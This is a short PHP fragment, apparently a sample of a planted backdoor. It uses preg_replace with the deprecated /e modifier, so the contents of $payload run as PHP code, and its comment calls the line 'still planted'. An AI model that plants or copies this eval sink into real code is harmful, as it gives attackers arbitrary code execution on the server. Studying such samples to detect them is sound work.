<?php
// The /e modifier runs the replacement as PHP (removed in PHP 7; still planted).
$out = preg_replace('/.*/e', $payload, '');
